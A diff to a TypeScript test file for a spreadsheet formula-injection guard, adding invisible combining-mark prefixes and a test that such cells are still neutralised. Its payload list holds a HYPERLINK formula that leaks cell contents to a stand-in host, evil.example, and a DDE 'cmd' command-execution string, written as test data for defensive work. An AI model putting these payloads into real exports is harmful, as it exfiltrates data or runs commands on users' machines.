@@ -33,6 +33,9 @@ const INVISIBLE_PREFIXES = [
   '\u3000', // ideographic space
   '\n',
   '\u3164', // Hangul filler
+  '\u034F', // combining grapheme joiner (Mn: invisible, with nothing to combine with)
+  '\u0301', // combining acute accent (Mn)
+  '\u20DD', // combining enclosing circle (Me)
 ];
 const PAYLOADS = ['1+1', 'HYPERLINK("http://evil.example/?"&A1,"Click")', "cmd|' /C calc'!A0", 'SUM(A1:A9)'];
 
@@ -60,6 +63,13 @@ function parseRow(line: string, separator = ','): string[] {
 }
 
 describe('formula guard', () => {
+  it('sees through a leading combining mark (the third review: U+034F then =2+5+cmd went out unguarded)', () => {
+    expect(neutraliseCell('\u034F=2+5+cmd')).toBe("'\u034F=2+5+cmd");
+    expect(needsFormulaGuard('\u034F\u034F\u200B@SUM(A1)')).toBe(true);
+    // A mark on a letter is part of the text: nothing to guard.
+    expect(needsFormulaGuard('e\u0301=x')).toBe(false);
+  });
+
   it('guards every trigger, ASCII or look-alike, behind every invisible prefix (and none)', () => {
     for (const prefix of ['', ...INVISIBLE_PREFIXES, '\u200B\u202E ', '\uFEFF\u00A0\u200D']) {
       for (const trigger of [...ASCII_TRIGGERS, ...LOOKALIKE_TRIGGERS]) {
